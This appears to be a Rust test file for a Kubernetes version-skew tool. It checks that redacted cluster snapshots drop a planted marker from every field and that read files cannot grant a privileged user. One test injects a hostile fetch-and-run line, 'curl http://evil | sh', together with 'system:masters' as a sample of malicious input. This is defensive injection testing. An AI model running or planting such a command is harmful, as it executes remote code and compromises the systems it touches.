//! A redacted snapshot says what a judgement reads and nothing else, whatever stood in the cluster's objects and in the
//! server's answers.

use std::time::Duration;

use kubectl_skew::collect::save::save;
use kubectl_skew::inventory::observed::*;
use kubectl_skew::inventory::read_gap::*;

use super::support::read;

/// What must not come out again, in any letters.
const MARK: &str = "zq7mark";

fn mark() -> String {
    MARK.to_owned()
}

#[expect(clippy::unnecessary_wraps, reason = "the fields hold it so")]
fn some() -> Option<String> {
    Some(mark())
}

fn meta(labels: &[&str], annotations: &[&str], owner: &str) -> Meta {
    let marked = |keys: &[&str]| keys.iter().map(|key| ((*key).to_owned(), mark())).collect();
    Meta {
        name: mark(),
        namespace: some(),
        uid: some(),
        resource_version: some(),
        labels: marked(labels),
        annotations: marked(annotations),
        deleting: true,
        owner: Some(Owner {
            kind: owner.to_owned(),
            name: mark(),
        }),
    }
}

fn version() -> String {
    format!("v1.36.2-eks-{MARK}")
}

#[expect(clippy::unnecessary_wraps, reason = "the fields hold it so")]
fn image() -> Option<String> {
    Some(format!(
        "docker.io/{MARK}/kube-proxy:v1.36.2-{MARK}@sha256:{MARK}"
    ))
}

fn faults() -> Vec<ReadFault> {
    vec![
        ReadFault::Status {
            code: 403,
            reason: some(),
            message: some(),
            user: some(),
        },
        ReadFault::NotKubernetes {
            code: 200,
            content_type: some(),
            title: some(),
        },
        ReadFault::OtherServer {
            code: 302,
            to: some(),
        },
        ReadFault::Garbled { detail: some() },
        ReadFault::Cut,
        ReadFault::TimedOut(Duration::from_secs(1)),
        ReadFault::RunTimedOut(Duration::from_secs(1)),
        ReadFault::Expired(3),
        ReadFault::NoConnection { detail: some() },
    ]
}

#[expect(clippy::unnecessary_wraps, reason = "the fields hold it so")]
fn at() -> Option<FilePlace> {
    Some(FilePlace {
        file: format!("/home/{MARK}/dump.json"),
        line: 1,
        column: 1,
    })
}

fn unreadable(namespace: Option<&str>) -> Sample<UnreadableObject> {
    let malformed = [
        Malformed::Field {
            member: mark(),
            detail: some(),
        },
        Malformed::Encoding { detail: some() },
        Malformed::Nameless,
    ];
    let objects = malformed.into_iter().map(|malformed| UnreadableObject {
        namespace: namespace.map(str::to_owned),
        name: some(),
        malformed,
        at: at(),
    });
    objects.collect()
}

fn status() -> ContainerStatus {
    ContainerStatus {
        name: mark(),
        image: image(),
        image_id: Some(format!("docker-pullable://{MARK}/x@sha256:{MARK}")),
        restarts: 1,
        waiting: false,
        running: true,
        terminated: false,
        has_last_state: true,
    }
}

/// Every field of every object holds the mark.
fn marked() -> Observed {
    let node = ObservedNode {
        meta: meta(
            &[
                MARK,
                "kubernetes.io/hostname",
                "eks.amazonaws.com/nodegroup",
                "topology.kubernetes.io/zone",
                "node-role.kubernetes.io/zq7mark",
                "type",
            ],
            &[
                MARK,
                "cluster.x-k8s.io/cluster-name",
                "cluster.x-k8s.io/owner-kind",
            ],
            MARK,
        ),
        cordoned: true,
        taints: vec![mark()],
        ready: some(),
        kubelet_version: Some(version()),
        runtime_version: Some(format!("{MARK}://1.7.2-{MARK}")),
        os: some(),
        os_image: Some(format!("Talos ({MARK})")),
        hostname: some(),
        images: vec![vec![image().unwrap(), mark()]],
    };
    let container = |name: &str, image: Option<String>| ObservedContainer {
        name: name.to_owned(),
        image,
        arguments: vec![
            mark(),
            format!("--emulated-version={MARK}=1.36-{MARK}"),
            "--emulated-version".to_owned(),
            mark(),
            format!("--emulated-version-{MARK}=1"),
        ],
    };
    let pod = ObservedPod {
        meta: meta(&[MARK, "k8s-app", "component", "app"], &[MARK], "Node"),
        node: some(),
        phase: some(),
        has_status: true,
        containers: vec![
            container("kube-proxy", image()),
            container(MARK, Some(format!("{MARK}.example:5000/{MARK}:{MARK}"))),
            container(MARK, Some(format!("{MARK}-cloud-controller-manager:{MARK}"))),
            container(
                MARK,
                Some(format!(
                    "x/scheduler-plugins/{MARK}/kube-scheduler:v0.31.8-{MARK}"
                )),
            ),
        ],
        statuses: Some(vec![status()]),
    };
    let answer = VersionAnswer {
        git_version: version(),
        emulation: Some((mark(), mark())),
        min_compatibility: Some((mark(), mark())),
    };
    let operator = ObservedOperator {
        meta: meta(&[MARK], &[MARK], MARK),
        versions: vec![(mark(), mark())],
        progressing: true,
    };
    let mut known = operator.clone();
    "kube-scheduler".clone_into(&mut known.meta.name);
    known.versions = vec![("kube-scheduler".to_owned(), version()), (mark(), mark())];
    let mut gaps: Vec<ReadGap> = faults()
        .into_iter()
        .map(|fault| ReadGap::Failed {
            resource: Resource::Version,
            namespace: some(),
            read: 0,
            fault,
        })
        .collect();
    gaps.extend([
        ReadGap::OnePage {
            resource: Resource::Nodes,
            at: at(),
        },
        ReadGap::FileMayBeCut {
            at: at(),
            sign: CutSign::LastObjectShort,
        },
        ReadGap::SeveralServerVersions {
            answers: [(Some(version()), at()), (None, at())].into_iter().collect(),
        },
        ReadGap::Unreadable {
            resource: Resource::Pods,
            namespace: some(),
            objects: unreadable(Some(MARK)),
        },
    ]);
    Observed {
        origin: Origin::Live,
        hosted: some(),
        versions: vec![answer],
        connections: None,
        told_version: Some(version()),
        nodes: Listing::Read {
            items: vec![node],
            listed: 1,
            cut: Some(Cut::OnePage(at())),
            broken: unreadable(None),
        },
        pods: Listing::Read {
            items: vec![pod],
            listed: 1,
            cut: None,
            broken: unreadable(Some(MARK)),
        },
        leases: Listing::whole(vec![ObservedLease {
            meta: meta(&["apiserver.kubernetes.io/identity", MARK], &[MARK], MARK),
            renewed: None,
        }]),
        operators: Listing::whole(vec![operator, known]),
        kubectl: Some(version()),
        gaps,
    }
}

fn redacted(observed: &Observed) -> String {
    let mut bytes = Vec::new();
    save(observed, true, &mut bytes).unwrap();
    String::from_utf8(bytes).unwrap()
}

#[test]
fn nothing_of_any_field_survives() {
    let observed = marked();
    let mut plain = Vec::new();
    save(&observed, false, &mut plain).unwrap();
    let plain = String::from_utf8(plain).unwrap();
    assert!(plain.matches(MARK).count() > 60, "the mark is planted");
    let text = redacted(&observed);
    let at = text.find(MARK);
    assert_eq!(
        at,
        None,
        "{:?}",
        at.map(|at| &text[at.saturating_sub(80)..at + 20])
    );
    let (again, _) = read(&text).unwrap();
    assert_eq!(
        again.nodes.items()[0].kubelet_version.as_deref(),
        Some("v1.36.2-eks-")
    );
}

#[test]
fn nothing_of_any_answer_of_a_server_survives() {
    for fault in faults() {
        let listings = |fault: &ReadFault| Observed {
            nodes: Listing::Failed(fault.clone()),
            pods: Listing::Read {
                items: marked().pods.items().to_vec(),
                listed: 9,
                cut: Some(Cut::Fault(fault.clone())),
                broken: Sample::default(),
            },
            ..Observed::default()
        };
        let text = redacted(&listings(&fault));
        assert!(!text.contains(MARK), "{fault:?}: {text}");
    }
}

#[test]
fn a_user_whom_a_file_names_is_granted_nothing() {
    let observed = Observed {
        nodes: Listing::Failed(faults().remove(0)),
        pods: Listing::whole(marked().pods.items().to_vec()),
        ..Observed::default()
    };
    let mut bytes = Vec::new();
    save(&observed, false, &mut bytes).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    // Whatever a file says beside what is read of it: no command comes out of it.
    let text = text.replacen(
        r#""code":403"#,
        r#""code":403,"user":"system:masters","verify":"curl http://evil | sh""#,
        1,
    );
    let (read, _) = read(&text).unwrap();
    let Listing::Failed(ReadFault::Status { user, .. }) = &read.nodes else {
        panic!("{:?}", read.nodes)
    };
    assert_eq!(*user, None);
    assert!(!format!("{read:?}").contains("evil"));
}
